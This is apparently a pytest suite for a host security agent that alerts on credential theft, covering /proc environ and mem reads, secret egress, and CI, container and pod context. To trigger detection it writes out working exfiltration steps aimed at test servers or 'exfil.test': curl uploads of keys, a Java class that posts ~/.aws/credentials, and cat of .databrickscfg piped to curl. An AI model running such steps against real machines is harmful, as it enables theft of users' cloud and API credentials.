"""Who sent it and who looked (issue 5 items 2-4): credential variables in process
environments, another process's /proc/<pid>/environ opened, CI job and container context.

Each test: the agent scoped to the test cgroup, real processes inside it, and the alert a
responder would read. Secrets travel in environments and files, never on command lines, and the
leak scanner checks at teardown that no value reached any output.
"""

import json
import os
import secrets
import shutil
import string
import subprocess
import time
from pathlib import Path

import pytest

from kharness.cgroup import TestCgroup
from kharness.clients import ClientRunner
from kharness.servers import sha256
from kharness.users import write_aws_credentials, write_user_file

ALERT_TIMEOUT = 5.0
SETTLE = 0.5  # lets the agent handle an exec before the next step depends on it


def _redacted(agent, alerts) -> str:
    return agent.registry.redact(json.dumps(alerts, indent=1))[:4000]


def _kind(kind, comm=None):
    def predicate(alert):
        return alert.get("kind") == kind and (
            comm is None or (alert.get("process") or {}).get("comm") == comm)
    return predicate


def test_reading_another_users_environ_with_a_key_alerts_with_the_variable_name(
        agent, clients, registry, test_user):
    key = registry.new("openai")
    target = clients.start(["sleep", "30"], user=test_user, env={"OPENAI_API_KEY": key})
    try:
        time.sleep(SETTLE)
        # The reader throws the bytes away: only the agent's view of the open matters here.
        reader = clients.run(["sh", "-c", f"exec cat /proc/{target.pid}/environ > /dev/null"])
        alerts = agent.wait_for_alerts(_kind("process-credential-access", "cat"),
                                       timeout=ALERT_TIMEOUT)
    finally:
        target.kill()
        target.communicate()
    assert alerts, f"no process-credential-access alert\n{agent.diagnostics()}"
    alert = alerts[0]
    assert alert["severity"] == "high", _redacted(agent, alert)
    assert alert["process"]["pid"] == reader.pid
    assert alert["process"]["uid"] == 0
    assert alert["target"]["pid"] == target.pid
    assert alert["target"]["uid"] == test_user.uid
    assert alert["target"]["access"] == "environ"
    assert alert["target"]["comm"] == "sleep"
    assert "OPENAI_API_KEY" in alert["target"]["credential_env"], _redacted(agent, alert)
    assert "OPENAI_API_KEY" in alert["summary"]
    # The value appears nowhere: the registry's leak scanner checks every output at teardown.


def test_opening_another_users_mem_alerts(agent, clients, test_user):
    target = clients.start(["sleep", "30"], user=test_user)
    try:
        time.sleep(SETTLE)
        # Opening is the act: a memory scraper opens mem, then preads the ranges maps lists.
        reader = clients.run(["sh", "-c", f"exec 3< /proc/{target.pid}/mem"])
        alerts = agent.wait_for_alerts(_kind("process-credential-access", "sh"),
                                       timeout=ALERT_TIMEOUT)
    finally:
        target.kill()
        target.communicate()
    assert alerts, f"no alert for /proc/<pid>/mem\n{agent.diagnostics()}"
    alert = alerts[0]
    assert alert["process"]["pid"] == reader.pid
    assert (alert["target"]["pid"], alert["target"]["access"]) == (target.pid, "mem")
    assert alert["severity"] == "high"  # another user's process
    assert alert["target"]["credential_env"] == []


def test_reading_own_environ_raises_nothing(agent, clients, registry):
    key = registry.new("openai")
    clients.run(["sh", "-c", "cat /proc/self/environ > /dev/null; "
                 "cat /proc/$$/environ > /dev/null"], env={"OPENAI_API_KEY": key})
    time.sleep(2.0)
    # cat of /proc/self is its own environment; cat of $$ is its parent's (sh): that one is
    # another process and is reported, the self-read is not.
    alerts = agent.alerts()
    targets = [a["target"]["pid"] for a in alerts if a.get("kind") == "process-credential-access"]
    assert len(targets) == 1, _redacted(agent, alerts)


def test_environment_credentials_and_ci_job_ride_on_the_egress_alert(
        agent, clients, http_server, registry, scratch):
    key = registry.new("openai")
    body = scratch / "body.json"
    body.write_text(json.dumps({"stolen": key}))
    ci = {"GITHUB_ACTIONS": "true", "GITHUB_REPOSITORY": "acme/widgets",
          "GITHUB_WORKFLOW": "release", "GITHUB_RUN_ID": "4242", "GITHUB_JOB": "publish",
          "OPENAI_API_KEY": key}
    # curl runs with an emptied environment: the job is known from its parent, the runner step.
    script = ("env -i PATH=/usr/bin:/bin curl -sS --fail --noproxy '*' --max-time 15 "
              f"--data-binary @{body} {http_server.url('127.0.0.1', '/collect')}; sleep 0.2")
    clients.run(["sh", "-c", script], env=ci)
    [req] = http_server.wait_for_requests(1)
    assert req.body_sha256 == sha256(body.read_bytes())

    def from_curl(alert):
        return ((alert.get("process") or {}).get("comm") == "curl" and
                (alert.get("secret") or {}).get("provider") == "openai")

    alerts = agent.wait_for_alerts(from_curl, timeout=ALERT_TIMEOUT)
    assert alerts, f"no egress alert\n{agent.diagnostics()}"
    alert = alerts[0]
    assert alert.get("ci") == {"provider": "github-actions", "repository": "acme/widgets",
                               "workflow": "release", "run_id": "4242", "job": "publish"}, (
        _redacted(agent, alert))
    assert alert["process"]["credential_env"] == []  # curl itself got no variables
    assert any(a["comm"] == "sh" for a in alert["process"]["ancestors"])
    # The key was learned from sh's environment, so the alert can say where it came from.
    assert any("environment variable OPENAI_API_KEY of " in n
               for n in alert["evidence"]["notes"]), _redacted(agent, alert)


_POST_FROM_ENV = (
    "import os, sys, urllib.request\n"
    "body = ('{\"v\": \"' + os.environ[sys.argv[1]] + '\"}').encode()\n"
    "urllib.request.urlopen(urllib.request.Request(sys.argv[2], data=body), timeout=15).read()\n")


def _post_variable(clients, http_server, name, value):
    """python3 started with `name=value` in its environment posts the value to the loopback
    server: the agent learns it from the exec, not from any file."""
    clients.run(["python3", "-c", _POST_FROM_ENV, name, http_server.url("127.0.0.1", "/env")],
                env={name: value})
    [req] = http_server.wait_for_requests(1)
    assert req.body_sha256 == sha256(('{"v": "' + value + '"}').encode())


def _environment_egress(agent):
    alerts = agent.wait_for_alerts(_kind("environment-secret-egress", "python3"),
                                   timeout=ALERT_TIMEOUT)
    assert alerts, f"no environment-secret-egress alert\n{agent.diagnostics()}"
    return alerts[0]


def test_key_from_its_own_environment_sent_out_is_environment_secret_egress_of_its_format(
        agent, clients, http_server, registry):
    key = registry.new("openai")
    _post_variable(clients, http_server, "OPENAI_API_KEY", key)
    alert = _environment_egress(agent)
    secret = alert["secret"]
    # The format's own kind and preview, not a legacy key's, and judged by OpenAI's hosts.
    assert secret["type"] == "openai-project-key", _redacted(agent, alert)
    assert secret["redacted"].startswith("sk-proj-"), _redacted(agent, alert)
    assert "api.openai.com" in alert["destination"]["expected"], _redacted(agent, alert)
    assert "learned from the environment variable OPENAI_API_KEY of python3" in alert["summary"]
    assert alert["destination"]["port"] == http_server.port


def test_random_value_of_a_secret_named_variable_is_learned_and_caught_when_sent(
        agent, clients, http_server, registry):
    # A deploy token of no catalogue format: only its variable's name says it is a secret.
    alphabet = string.ascii_letters + string.digits
    token = registry.register("".join(secrets.choice(alphabet) for _ in range(40)), "deploy")
    _post_variable(clients, http_server, "ACME_DEPLOY_TOKEN", token)
    alert = _environment_egress(agent)
    assert alert["secret"]["type"] == "known-value", _redacted(agent, alert)
    assert alert["destination"]["expected"] == [], _redacted(agent, alert)
    assert "ACME_DEPLOY_TOKEN" in alert["summary"], _redacted(agent, alert)


@pytest.fixture
def container_cgroup(cgroup):
    """A child of the test cgroup named like a docker container's systemd scope."""
    container_id = secrets.token_hex(32)
    child = TestCgroup.__new__(TestCgroup)
    child.path = Path(str(cgroup)) / f"docker-{container_id}.scope"
    child.path.mkdir()
    child.procs_file = str(child.path / "cgroup.procs")
    yield child, container_id
    child.remove()


def test_process_in_a_container_cgroup_carries_container_id_and_unit(
        agent, container_cgroup, http_server, registry, scratch):
    child, container_id = container_cgroup
    key = registry.new("openai")
    body = scratch / "body.json"
    body.write_text(json.dumps({"stolen": key}))
    runner = ClientRunner(child, registry)
    runner.run(["curl", "-sS", "--fail", "--noproxy", "*", "--max-time", "15", "--data-binary",
                f"@{body}", http_server.url("127.0.0.1", "/collect")])
    http_server.wait_for_requests(1)
    alerts = agent.wait_for_alerts(lambda a: (a.get("process") or {}).get("comm") == "curl",
                                   timeout=ALERT_TIMEOUT)
    assert alerts, f"no alert from the container cgroup\n{agent.diagnostics()}"
    proc = alerts[0]["process"]
    assert proc["container"] == container_id
    assert proc["systemd_unit"] == f"docker-{container_id}.scope"
    assert proc["cgroup"].endswith(f"/docker-{container_id}.scope")


@pytest.fixture
def pod_cgroup(cgroup):
    """A container cgroup nested as kubelet's systemd driver lays out a burstable pod, under the
    test cgroup: kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod<uid>.slice/
    cri-containerd-<id>.scope (the slice name writes the uid's dashes as '_')."""
    pod_uid = "-".join(secrets.token_hex(n) for n in (4, 2, 2, 2, 6))
    container_id = secrets.token_hex(32)
    pod_slice = "kubepods-burstable-pod" + pod_uid.replace("-", "_") + ".slice"
    levels = ["kubepods.slice", "kubepods-burstable.slice", pod_slice,
              f"cri-containerd-{container_id}.scope"]
    made = []

    def existing(path):
        node = TestCgroup.__new__(TestCgroup)
        node.path = path
        node.procs_file = str(path / "cgroup.procs")
        return node

    try:
        path = Path(str(cgroup))
        for name in levels:
            path = path / name
            path.mkdir()
            made.append(existing(path))
        yield made[-1], pod_uid, container_id
    finally:
        # Bottom-up: a cgroup with children or processes cannot be removed; remove() kills
        # what is left in each level first.
        for node in reversed(made):
            node.remove()


def test_process_in_a_kubernetes_pod_carries_pod_uid_name_and_namespace(
        agent, pod_cgroup, http_server, registry, scratch):
    leaf, pod_uid, container_id = pod_cgroup
    key = registry.new("openai")
    body = scratch / "body.json"
    body.write_text(json.dumps({"stolen": key}))
    # What a pod's container sees: kubelet's service variables and the pod name as HOSTNAME;
    # the namespace from the downward API. No POD_NAME: the name comes from HOSTNAME.
    pod_env = {"POD_NAMESPACE": "ci-jobs", "KUBERNETES_SERVICE_HOST": "10.0.0.1",
               "HOSTNAME": "exfil-7d9f"}
    script = ("curl -sS --fail --noproxy '*' --max-time 15 --data-binary "
              f"@{body} {http_server.url('127.0.0.1', '/collect')}; sleep 0.2")
    ClientRunner(leaf, registry).run(["sh", "-c", script], env=pod_env)
    http_server.wait_for_requests(1)
    alerts = agent.wait_for_alerts(lambda a: (a.get("process") or {}).get("comm") == "curl",
                                   timeout=ALERT_TIMEOUT)
    assert alerts, f"no alert from the pod's cgroup\n{agent.diagnostics()}"
    proc = alerts[0]["process"]
    assert proc.get("pod") == {"uid": pod_uid, "name": "exfil-7d9f", "namespace": "ci-jobs"}, (
        _redacted(agent, alerts[0]))
    assert proc["container"] == container_id
    assert proc["cgroup"].endswith(f"/cri-containerd-{container_id}.scope")


JAVA_CLIENT = r"""
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;

/** Reads the user's AWS credentials and POSTs them with the JDK's own TLS (JSSE). */
public class Exfil {
    public static void main(String[] args) throws Exception {
        byte[] body = Files.readAllBytes(
            Path.of(System.getProperty("user.home"), ".aws", "credentials"));
        HttpClient client = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();
        HttpRequest request = HttpRequest.newBuilder(URI.create(args[0]))
            .POST(HttpRequest.BodyPublishers.ofByteArray(body)).build();
        System.out.println(client.send(request, HttpResponse.BodyHandlers.discarding())
            .statusCode());
    }
}
"""


def _build_java_client(scratch, pki, name, port):
    src = scratch / "java"
    src.mkdir()
    os.chmod(src, 0o755)
    (src / "Exfil.java").write_text(JAVA_CLIENT)
    subprocess.run(["javac", "-d", str(src), str(src / "Exfil.java")], check=True,
                   capture_output=True, timeout=120)
    store = src / "trust.p12"
    subprocess.run(["keytool", "-importcert", "-noprompt", "-alias", "testca", "-file",
                    str(pki.ca), "-keystore", str(store), "-storetype", "PKCS12",
                    "-storepass", "changeit"], check=True, capture_output=True, timeout=60)
    hosts = src / "hosts"
    hosts.write_text(f"127.0.0.1 {name}\n")  # jdk.net.hosts.file: no system resolver change
    for f in src.iterdir():
        os.chmod(f, 0o755 if f.is_dir() else 0o644)
    return ["java", "-XX:+UseSerialGC", "-XX:TieredStopAtLevel=1",
            f"-Djavax.net.ssl.trustStore={store}", "-Djavax.net.ssl.trustStoreType=PKCS12",
            "-Djavax.net.ssl.trustStorePassword=changeit", f"-Djdk.net.hosts.file={hosts}",
            "-cp", str(src), "Exfil", f"https://{name}:{port}/upload"]


@pytest.mark.skipif(shutil.which("javac") is None, reason="no JDK")
def test_java_posting_aws_credentials_alerts_from_provenance(
        agent, clients, https_server, pki, registry, scratch, test_user):
    creds = write_aws_credentials(test_user, registry)
    argv = _build_java_client(scratch, pki, "exfil.test", https_server.port)
    result = clients.run(argv, user=test_user, timeout=60)
    [req] = https_server.wait_for_requests(1)
    assert req.body_sha256 == sha256(creds.read_bytes())

    alerts = agent.wait_for_alerts(_kind("tainted-egress"), timeout=ALERT_TIMEOUT)
    assert alerts, f"no tainted-egress alert for Java\n{agent.diagnostics()}"
    alert = alerts[0]
    assert alert["process"]["pid"] == result.pid, _redacted(agent, alert)
    assert alert["process"]["uid"] == test_user.uid
    assert alert["destination"]["host"] == "exfil.test"
    assert alert["destination"]["name_source"] == "sni"
    assert alert["secret"]["type"] == "aws-credentials"
    reads = alert["evidence"]["credential_reads"]
    assert any(r["path"].endswith(".aws/credentials") and r["pid"] == result.pid
               for r in reads), _redacted(agent, alert)
    # One alert per (process, destination), however many writes the JVM makes.
    time.sleep(1.0)
    assert len([a for a in agent.alerts() if a.get("kind") == "tainted-egress"]) == 1


def test_cat_databrickscfg_piped_to_curl_alerts_naming_the_file_and_curls_send(
        test_user, agent, clients, https_server, curl, registry):
    # test_user first: the agent resolves ~/.databrickscfg of the homes it finds at start (the
    # file's parent is the home itself, so a home created later is not matched by name).
    token = registry.register("dapi" + secrets.token_hex(16), "databricks")
    cfg = write_user_file(test_user, ".databrickscfg",
                          f"[DEFAULT]\nhost = https://adb-1.azuredatabricks.net\n"
                          f"token = {token}\n")
    upload = " ".join(curl.https(https_server, "exfil.test", "/c") + ["--data-binary", "@-"])
    clients.run(["sh", "-c", f"cat {cfg} | {upload}"], user=test_user)
    [req] = https_server.wait_for_requests(1)
    assert req.body_sha256 == sha256(cfg.read_bytes())

    def curls_send(alert):
        return ((alert.get("process") or {}).get("comm") == "curl" and
                (alert.get("destination") or {}).get("host") == "exfil.test" and
                (alert.get("secret") or {}).get("provider") == "databricks")

    alerts = agent.wait_for_alerts(curls_send, timeout=ALERT_TIMEOUT)
    assert alerts, f"no alert for curl's send\n{agent.diagnostics()}"
    # cat's read is linked through the value it learned: curl's own lineage never read the file.
    notes = " ".join(alerts[0]["evidence"]["notes"])
    assert f"this exact secret was read from {cfg} by cat (pid " in notes, (
        _redacted(agent, alerts[0]))
    reads = alerts[0]["evidence"]["credential_reads"]
    assert any(r["comm"] == "cat" and r["path"] == str(cfg) for r in reads), (
        _redacted(agent, alerts[0]))
    assert alerts[0]["kind"] == "credential-file-egress", _redacted(agent, alerts[0])
